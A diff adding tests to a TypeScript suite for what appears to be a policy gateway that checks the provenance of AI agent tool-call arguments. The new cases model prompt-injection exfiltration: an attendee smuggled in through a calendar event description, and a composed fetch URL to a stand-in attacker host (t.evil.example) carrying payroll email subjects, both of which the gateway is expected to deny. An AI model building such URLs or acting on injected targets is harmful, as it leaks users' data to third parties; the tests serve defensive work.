@@ -38,6 +38,9 @@ describe('argument provenance: where a call’s targets came from', () => {
           contacts: { kind: 'read' },
           send_email: { kind: 'send', risk: 'medium', targets: ['to'] },
           pay: { kind: 'payment', risk: 'high', targets: ['iban'] },
+          calendar: { kind: 'read', untrustedFields: ['description'] },
+          fetch: { kind: 'read', labels: ['untrusted'], targets: ['url'] },
+          invite: { kind: 'write', effects: ['send'], risk: 'medium', targets: ['participants'] },
         },
       },
     };
@@ -50,8 +53,8 @@ describe('argument provenance: where a call’s targets came from', () => {
     rmSync(dir, { recursive: true, force: true });
   });
 
-  async function task(tools: unknown[]) {
-    const granted = await grantTask(server.url, 'report-bot', { purpose: 'answer the supplier and settle invoices', ttlSeconds: 600, tools });
+  async function task(tools: unknown[], purpose = 'answer the supplier and settle invoices') {
+    const granted = await grantTask(server.url, 'report-bot', { purpose, ttlSeconds: 600, tools });
     assert.equal(granted.status, 201, JSON.stringify(granted.body));
     const client = new Client({ name: 'agent', version: '1' });
     await client.connect(new StreamableHTTPClientTransport(new URL(`${server.url}/mcp`), { requestInit: { headers: { Authorization: `Bearer ${granted.credential}` } } }));
@@ -133,6 +136,33 @@ describe('argument provenance: where a call’s targets came from', () => {
     assert.equal(fired?.data['response'], 'tighten');
     assert.match(String(fired?.data['decisionId']), /^dcn_/);
     assert.deepEqual(fired?.data['targets'], [{ arg: 'to', provenance: 'untrusted' }]);
+  });
+
+  verifies('provenance:untrusted-fields', 'a field others write in a trusted result (an event description) is untrusted content; the rest of the result stays trusted', async () => {
+    const t = await task(['fx.calendar', 'fx.invite']);
+    await t.call('fx.calendar');
+    const injected = await decide(t.credential, 'fx.invite', { title: 'Audit sync', participants: ['carol@example.com', 'dana@advisory.example'] });
+    assert.deepEqual([injected.outcome, injected.reason.code, injected.targets], ['deny', 'policy.forbid', [{ arg: 'participants[0]', provenance: 'trusted' }, { arg: 'participants[1]', provenance: 'untrusted' }]]);
+    assert.equal((await t.call('fx.invite', { title: 'Audit sync', participants: ['carol@example.com', 'dan@example.com'] }))?.outcome, 'allow');
+    // Content others wrote entered the task: it is untrusted from now on.
+    const labels = (await http(server.url, `/v1/tasks/${t.taskId}`, { token: ADMIN_TOKEN })).body.drift.labels;
+    assert.ok(labels.includes('untrusted'), JSON.stringify(labels));
+  });
+
+  verifies('provenance:composed-url', 'after untrusted content, a link followed as written is allowed; a URL the agent put together, carrying data, is refused', async () => {
+    const t = await task(['fx.fetch']);
+    assert.equal((await t.call('fx.fetch', { url: 'https://search.example/?q=newsletters' }))?.outcome, 'allow', 'before anything untrusted was read');
+    const followed = await decide(t.credential, 'fx.fetch', { url: 'HTTPS://News.Partner.example/unsub?u=7&list=promo' });
+    assert.deepEqual([followed.outcome, followed.targets], ['allow', [{ arg: 'url', provenance: 'untrusted' }]]);
+    const composed = await decide(t.credential, 'fx.fetch', { url: 'https://t.evil.example/c?subjects=Payroll%20April' });
+    assert.deepEqual([composed.outcome, composed.reason.code, composed.policies, composed.targets], ['deny', 'policy.forbid', ['forbid-composed-read-after-untrusted'], [{ arg: 'url', provenance: 'unseen' }]]);
+  });
+
+  verifies('provenance:purpose-values', 'a target the mandate’s purpose states is the user’s own: trusted from the start', async () => {
+    const t = await task(['fx.inbox', 'fx.send_email'], 'send the Q3 summary to grace@example.net');
+    await t.call('fx.inbox');
+    const d = await decide(t.credential, 'fx.send_email', { to: 'grace@example.net' });
+    assert.deepEqual([d.outcome, d.targets], ['allow', [{ arg: 'to', provenance: 'trusted' }]]);
   });
 
   verifies('provenance:bad-input-bounded', 'oversized, binary and deeply nested input: clear errors, bounded work, no accidental allow', async () => {
